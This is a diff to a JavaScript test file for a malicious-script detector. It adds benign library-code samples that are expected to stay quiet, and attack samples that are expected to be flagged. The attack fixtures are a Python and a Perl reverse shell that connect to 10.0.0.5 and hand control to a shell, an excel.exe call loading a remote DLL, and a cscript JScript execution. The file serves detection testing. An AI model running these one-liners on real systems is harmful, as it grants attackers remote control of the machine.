@@ -163,6 +163,24 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     expect(technique(npm, 'exec.obfuscated_iex')).toBeUndefined();
     expect(technique("$cmd = ($frag -join '')\n$cmd | iex", 'exec.obfuscated_iex')).toBeDefined();
   });
+  it('library code from the benign corpus shapes stays quiet: sockets without a shell, namespaces, helper scripts, char codes, escapes', () => {
+    const quiet = [
+      'import os, socket\ns = socket.socket()\ns.connect(("localhost", port))\nos.dup2(s.fileno(), 5)\nos.close(5)\n',
+      'use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new("$host:443") or die;\nwhile (<$sock>) { print $_ }\n',
+      'my %ns = (xsd => "http://www.w3.org/2001/XMLSchema");\n# open in Excel http://www.example.org/spec.html\n',
+      'execFile("cscript", ["//E:JScript", "//Nologo", path.join(__dirname, "regList.wsf")]);',
+    ];
+    for (const text of quiet) expect(['info', 'low']).toContain(worst(text));
+    const codes = Array.from({ length: 25 }, (_, i) => `chr(${40 + i})`).join('\n');
+    expect(worst(`${codes}\n${'x = compute(a, b) # ordinary code\n'.repeat(1500)}`)).toBe('info');
+    expect(worst(`Write-Host "Done${'`n'.repeat(15)}"\n$msg = "a\`tb\`r\`n"`)).toBe('info');
+  });
+  it('the same capabilities with the attack shape are still found', () => {
+    expect(technique('import socket,os\ns=socket.socket()\ns.connect(("10.0.0.5",443))\nos.dup2(s.fileno(),0)\nos.system("/bin/sh")', 'revshell.python')?.severity).toBe('critical');
+    expect(technique('use IO::Socket;$c=IO::Socket::INET->new("10.0.0.5:443");while(<$c>){system $_}', 'revshell.perl')?.severity).toBe('critical');
+    expect(technique('excel.exe http://203.0.113.9/addin.dll', 'lolbin.signed_binary_url')).toBeDefined();
+    expect(technique('cscript //E:JScript C:\\Users\\Public\\notes.txt', 'lolbin.script_host_remote')).toBeDefined();
+  });
   it('WScript.Shell running a program is a named low capability', () => {
     const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
     expect(f?.severity).toBe('low');
